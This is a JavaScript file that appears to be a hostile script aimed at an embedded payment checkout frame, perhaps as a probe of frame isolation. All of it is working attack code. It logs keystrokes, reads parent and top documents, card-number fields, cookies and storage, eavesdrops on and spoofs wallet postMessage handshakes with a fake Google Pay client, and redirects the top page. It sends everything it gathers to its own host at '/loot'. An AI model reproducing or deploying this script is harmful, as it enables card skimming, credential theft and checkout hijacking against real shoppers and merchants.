(() => {
    const own = new URL(document.currentScript.src);
    const HOME = own.origin;
    const told = new Set();
    const tell = (what, got, again) => {
        let text;
        try { text = typeof got === 'string' ? got : JSON.stringify(got) ?? String(got); } catch { text = String(got); }
        if (!again && told.has(what + ' ' + text)) return;
        told.add(what + ' ' + text);
        fetch(HOME + '/loot', {method: 'POST', body: JSON.stringify([what, text])}).catch(() => {});
    };
    const attempt = (what, steal) => {
        try {
            tell(what, steal());
        } catch (error) {
            tell(what, 'refused: ' + error.name);
        }
    };
    const attemptLater = (what, steal) =>
        Promise.resolve().then(steal).then(got => tell(what, got), error => tell(what, 'refused: ' + error.name));

    // What a shopper types goes to whoever has the focus.
    if (own.search === '?focus') {
        const input = document.createElement('input');
        setInterval(() => { document.body.append(input); input.focus(); }, 20);
        addEventListener('keydown', event => tell('key', event.key, true), true);
    }

    // What is said in this document, and to it.
    addEventListener('message', event => tell('message', [event.origin, event.data]), true);
    for (const type of ['keydown', 'input', 'paste', 'focusin'])
        addEventListener(type, event => tell('event', [type, event.key, event.data, event.target && event.target.value]), true);
    const post = MessagePort.prototype.postMessage;
    const listening = new WeakSet();
    MessagePort.prototype.postMessage = function (...message) {
        if (!listening.has(this)) {
            listening.add(this);
            this.addEventListener('message', event => tell('terms', event.data));
        }
        tell('said', message[0]);
        return post.apply(this, message);
    };

    // A greeting of our own: the checkout takes the frame for what it is, and tells it what it tells every wallet.
    const greet = target => {
        const {port1, port2} = new MessageChannel();
        port1.onmessage = event => tell('greeted', event.data);
        const config = {
            google_pay: {environment: 'TEST', merchant_name: 'x', gateway: 'primepay', gateway_merchant_id: 'x', auth_methods: [], networks: []},
        };
        target.postMessage({farthing_wallets: 1, farthing: 1, type: 'hello', config}, '*', [port2]);
        for (const type of ['status', 'form', 'card', 'fields', 'state', 'value', 'submit', 'token', 'validate'])
            post.call(port1, {type, wallet: 'google_pay', data: {}, of: {}, name: 'card_number', session: true});
    };

    let number = 0;
    let tapped = false;
    const round = () => {
        for (const [name, other] of [['parent', parent], ['top', top]]) {
            attempt(name + '.document', () => other.document.documentElement.outerHTML);
            attempt(name + '.eval', () => other.eval('document.forms[0].card_number.value'));
            attempt(name + '.location', () => other.location.href);
            attempt(name + '.name', () => other.name);
            attempt(name + '.localStorage', () => ({...other.localStorage}));
            attempt(name + '.fetch', () => other.fetch);
            attempt(name + '.performance', () => other.performance.getEntriesByType('resource'));
            for (let i = 0; i < other.frames.length; i++) {
                if (other.frames[i] === self) continue;
                attempt(name + '.frames', () => other.frames[i].document.documentElement.outerHTML);
            }
            // Not before its button stands there: the checkout hears whoever greeted last.
            if (tapped) attempt('greet ' + name, () => greet(other));
            attempt('shout ' + name, () => {
                for (const message of ['farthing-sheet', 'farthing-opener', {type: 'ready'}, {farthing: 1}]) other.postMessage(message, '*');
            });
        }
        attempt('frameElement', () => frameElement && frameElement.ownerDocument.documentElement.outerHTML);
        attempt('opener', () => opener && opener.document.documentElement.outerHTML);
        attempt('referrer', () => document.referrer);
        attempt('cookie', () => document.cookie);
        attempt('storage', () => ({...localStorage, ...sessionStorage}));
        attempt('own document', () => document.documentElement.outerHTML);
        attempt('entries', () => performance.getEntries().map(entry => entry.name));
        attempt('named windows', () => ['_parent', '_top', 'farthing', 'checkout'].map(name => {
            const other = window.open('', name);
            return other && other !== self ? other.document.documentElement.outerHTML : '';
        }));
        // Ways to lead the pages around it elsewhere.
        attempt('top.location =', () => { top.location = HOME + '/top'; });
        attempt('top.location.replace', () => top.location.replace(HOME + '/top'));
        attempt('parent.location =', () => { parent.location = HOME + '/parent'; });
        attempt('open _top', () => { window.open(HOME + '/open', '_top'); });
        attempt('open _parent', () => { window.open(HOME + '/open', '_parent'); });
        for (const target of ['_top', '_parent']) {
            attempt('link ' + target, () => {
                const link = document.createElement('a');
                Object.assign(link, {href: HOME + '/link', target});
                document.body.append(link);
                link.click();
                link.remove();
            });
            attempt('form ' + target, () => {
                const form = document.createElement('form');
                Object.assign(form, {action: HOME + '/form', target, method: 'post'});
                document.body.append(form);
                form.submit();
                form.remove();
            });
        }
        // Code that the page did not bring.
        attempt('eval', () => eval('1 + 1'));
        attempt('inline', () => {
            const script = document.createElement('script');
            script.textContent = 'window.inlineRan = true';
            document.head.append(script);
            return window.inlineRan === true;
        });
        attempt('frame', () => {
            const frame = document.createElement('iframe');
            document.body.append(frame);
            const got = frame.contentWindow.parent.parent.document.documentElement.outerHTML;
            frame.remove();
            return got;
        });
        const around = (location.ancestorOrigins || [])[0];
        for (const [name, origin] of [['own', location.origin], ['checkout', around]]) {
            for (const path of ['/checkout/x/status', '/v1/payments', '/metrics', '/openapi.json'])
                attemptLater('fetch ' + name + path, async () => {
                    const answer = await fetch(origin + path);
                    return answer.status;
                });
        }
        number += 1;
        setTimeout(() => {
            tell('round', String(number), true);
            setTimeout(round, 50);
        }, 50);
    };

    window.google = {payments: {api: {PaymentsClient: class {
        constructor(options) { tell('options', options); }
        async isReadyToPay(request) { tell('isReadyToPay', request); return {result: true}; }
        prefetchPaymentData(request) { tell('prefetch', request); }
        createButton(options) {
            const button = document.createElement('button');
            button.className = 'gpay-button';
            button.textContent = 'Google Pay';
            button.onclick = options.onClick;
            return button;
        }
        async loadPaymentData(request) { tapped = true; tell('loadPaymentData', request); throw {statusCode: 'CANCELED'}; }
    }}}};
    round();
})();
